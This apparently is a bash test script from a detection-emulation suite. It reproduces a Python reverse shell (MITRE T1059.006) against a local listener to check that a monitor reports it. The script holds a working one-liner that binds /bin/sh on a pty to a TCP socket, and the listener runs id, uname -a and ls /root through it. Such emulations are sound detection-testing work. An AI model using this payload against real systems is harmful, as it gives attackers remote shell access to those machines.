#!/bin/bash
# vigil-emulation: attack
# technique: T1059.006 Command and Scripting Interpreter: Python
# tactic: execution, command-and-control
# what: a python one-liner connects a socket to a listener on 127.0.0.1, dup2()s it over
#   fds 0, 1 and 2 and spawns /bin/sh on a pty (pty.spawn), the usual "upgraded" shell;
#   the listener runs `id`, `uname -a`, `ls /root` through it.
# report: a reverse shell: a shell on a pty driven by python whose stdin and stdout are one
#   TCP socket to 127.0.0.1:PORT.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_server shell --commands "id;uname -a;ls /root"
listener=$EMUL_BG_PID
"$PY" -c "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$EMUL_PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" || true
wait "$listener"
